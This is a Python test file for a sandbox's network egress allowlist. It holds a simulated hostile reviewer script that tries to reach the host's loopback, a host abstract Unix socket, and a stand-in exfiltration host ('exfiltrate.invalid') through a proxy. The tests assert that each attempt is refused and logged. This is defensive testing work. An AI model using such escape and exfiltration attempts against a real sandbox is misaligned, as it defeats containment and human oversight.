"""A hostile `command` reviewer in a jail with a network of its own (spar/round/sandboxing.py,
spar/proc/egress.py), as root and as an unprivileged user: it cannot reach a server on the
host's 127.0.0.1 directly or through the proxy, nor a host abstract Unix socket, nor a host
off its list; each refusal is recorded in its attempt; the host its allow_hosts names is
reached through the proxy; a reviewer that fails after a refusal is said to be blocked by
the allowlist. Every server here listens on this machine's 127.0.0.1 (or is an abstract
socket of the host); the one name off the list is never resolved."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import sysconfig
import tempfile
from pathlib import Path

import pytest

from spar.round.sandboxing import choose_sandbox
from tests import test_sandbox_hostile as hostile
from tests.echoserver import Echo
from tests.runsetup import ROOT, make_setup, result
from tests.test_hook import _claude, _hook
from tests.test_sandbox_hostile import RUNUSER, _python_for

user = hostile.user  # the fixture: each test as root and as `nobody`

pytestmark = pytest.mark.slow

ATTACKER = r'''
import json, os, socket, sys, urllib.parse
P = json.loads(PARAMS)
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
''' + hostile.ATTEMPTS + r'''

def direct():
    socket.create_connection(("127.0.0.1", P["host_port"]), timeout=30).close()
    return "connected"

def abstract():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(30)
    s.connect("\0" + P["abstract"])
    s.close()
    return "connected"

def through_proxy(target, say=b""):
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=30)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            break
        head += chunk
    line = head.split(b"\r\n")[0].decode()
    if say and line.split(" ")[1:2] == ["200"]:
        s.sendall(say)
        line += " " + s.recv(len(say)).decode()
    s.close()
    return line

for name in P["attacks"]:
    if name == "direct":
        attempt(name, direct)
    elif name == "abstract":
        attempt(name, abstract)
    elif name == "host_loopback_via_proxy":
        attempt(name, lambda: through_proxy("127.0.0.1:%d" % P["host_port"]))
    elif name == "unlisted":
        attempt(name, lambda: through_proxy("exfiltrate.invalid:443"))
    elif name == "allowed":
        attempt(name, lambda: through_proxy("127.0.0.1:%d" % P["allowed_port"], b"hello"))
sys.stderr.write("EGRESS-REPORT " + json.dumps(report) + "\n")
sys.stderr.flush()
if sys.argv[1:] == ["answer"]:
    print(json.dumps(P["answer"]))
sys.exit(0 if sys.argv[1:] == ["answer"] else 1)
'''


def _world(user: str, host: Echo, allowed: Echo, abstract: str):
    root = Path(tempfile.mkdtemp(prefix="spar-egress-"))
    os.chmod(root, 0o755)
    s = make_setup(root)
    python = sys.executable if user == "root" else _python_for(user)
    if python is None:
        pytest.skip(f"no Python {sys.version_info.major}.{sys.version_info.minor} that {user} may run")
    tools = root / "bin"
    tools.mkdir()
    for name, target in (("git", shutil.which("git")), ("python3", python), ("bwrap", shutil.which("bwrap"))):
        (tools / name).symlink_to(target)
    params = {"host_port": host.port, "allowed_port": allowed.port, "abstract": abstract,
              "answer": result(head=s.head, findings=[]),
              "attacks": ["direct", "abstract", "host_loopback_via_proxy", "unlisted", "allowed"]}
    code = ATTACKER.replace("PARAMS", repr(json.dumps(params)))
    blocked = ATTACKER.replace("PARAMS", repr(json.dumps({**params, "attacks": ["unlisted"]})))
    s.configure([{"name": "house", "preset": "command", "argv": ["python3", "-c", code, "answer"],
                  "allow_hosts": [f"127.0.0.1:{allowed.port}"]},
                 {"name": "blocked", "preset": "command", "argv": ["python3", "-c", blocked]}],
                passthrough=[], sandbox="required")
    s.env.update(PATH=str(tools))
    if user != "root":
        s.env.update(PYTHONPATH=os.pathsep.join([str(ROOT), sysconfig.get_paths()["purelib"]]))
        subprocess.run(["chown", "-R", user, str(root)], check=True, env={"PATH": "/usr/bin:/bin"})
    return s, python


def _run(s, user: str, python: str) -> subprocess.CompletedProcess:
    argv = [python, "-m", "spar", "run", "--stage", "code", "--out", "reviews/r1"]
    if user != "root":
        argv = [RUNUSER, "-u", user, "--", "/usr/bin/env", "-i", *(f"{k}={v}" for k, v in s.env.items()), *argv]
    return subprocess.run(argv, cwd=s.repo, env=s.env, capture_output=True, timeout=300)


def _report(s, name: str) -> dict:
    log = (s.repo / "reviews" / "r1" / name / "stderr.log").read_text(errors="replace")
    (line,) = [x for x in log.splitlines() if x.startswith("EGRESS-REPORT ")]
    return json.loads(line.split(" ", 1)[1])


def test_the_jail_reaches_only_its_list_through_the_proxy(user, monkeypatch, capsys):
    if not choose_sandbox("auto", os.environ.get("PATH")).egress:
        pytest.skip("bwrap cannot make a jail with a network namespace here (.ci/run installs bubblewrap)")
    abstract = f"spar-egress-test-{os.getpid()}-{user}"
    host, allowed, unix = Echo(), Echo(), Echo(abstract)
    s, python = _world(user, host, allowed, abstract)
    try:
        proc = _run(s, user, python)
        stderr = proc.stderr.decode()
        rj = json.loads((s.repo / "reviews" / "r1" / "round.json").read_text())
        assert rj["sandbox"] == {"kind": "bwrap", "network": "allowlist"}, stderr
        report = _report(s, "house")
        assert report["direct"] == "failed: ConnectionRefusedError"  # the jail's own loopback holds nothing
        assert report["abstract"] == "failed: ConnectionRefusedError"  # the host's abstract sockets are not its
        assert report["host_loopback_via_proxy"] == "HTTP/1.1 403 Forbidden"
        assert report["unlisted"] == "HTTP/1.1 403 Forbidden"
        assert report["allowed"] == "HTTP/1.1 200 Connection established hello"
        assert (host.accepted, unix.accepted, allowed.accepted) == (0, 0, 1)
        house, blocked = rj["reviewers"]
        assert house["status"] == "completed"
        assert house["attempts"][-1]["egress_refused"] == [
            {"host": "127.0.0.1", "port": host.port, "count": 1}, {"host": "exfiltrate.invalid", "port": 443, "count": 1}]
        assert blocked["status"] == "failed"
        assert blocked["attempts"][-1]["egress_refused"] == [{"host": "exfiltrate.invalid", "port": 443, "count": 1}]
        assert blocked["attempts"][-1]["reason"].startswith(
            "blocked by Spar's egress allowlist: it tried to reach exfiltrate.invalid:443"), blocked
        assert "exfiltrate.invalid:443" in stderr
        # only the person can allow a host: the stop hook tells the person, never sends the agent back
        assert blocked["not_run"] == blocked["attempts"][-1]["not_run"] == "egress" and house["not_run"] is None
        if user == "root":  # the hook runs as root here: git refuses `nobody`'s repository to it
            answer, _ = _hook(monkeypatch, capsys, _claude(s.repo))
            assert answer["continue"] is False and "- blocked: failed: blocked by Spar's egress allowlist" in \
                answer["stopReason"], answer
    finally:
        for server in (host, allowed, unix):
            server.close()
        shutil.rmtree(s.tmp, ignore_errors=True)
